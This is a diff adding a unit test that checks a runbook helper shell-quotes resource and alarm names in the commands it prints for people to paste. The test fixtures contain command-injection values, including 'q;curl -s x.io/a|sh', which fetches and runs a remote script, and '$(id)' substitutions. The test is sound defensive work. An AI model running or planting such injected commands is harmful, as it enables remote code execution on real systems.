@@ -109,6 +109,14 @@ describe('nextStepForCause', () => {
     expect(nextStepForCause({ cause: 'failure', environment: 'production' }).run).toBeUndefined();
   });
 
+  // Review 12, R12-3: a command a person pastes carries a resource or alarm name as one quoted word, never as shell.
+  it('quotes the resource and alarm names in the commands it prints', () => {
+    const forged = contextFor('unverifiable', 'scale-consumers', { resourceId: "q;curl -s x.io/a|sh", alarmName: 'Depth > 1000 $(id) `id` it\'s', region: 'us-east-1' });
+    expect(nextStepForCause(forged).lines.join('\n')).toContain("runbook history 'q;curl -s x.io/a|sh'");
+    const failed = nextStepForCause({ ...forged, cause: 'failure' });
+    expect(failed.lines.join('\n')).toContain("`runbook plan --alarm 'Depth > 1000 $(id) `id` it'\\''s' -e production --region us-east-1`");
+  });
+
   it('says an unknown cause has no step of its own, and offers no document', () => {
     expect(nextStepForCause(contextFor('from-a-newer-handler', 'scale-consumers'))).toEqual({
       title: 'Read the reason above',
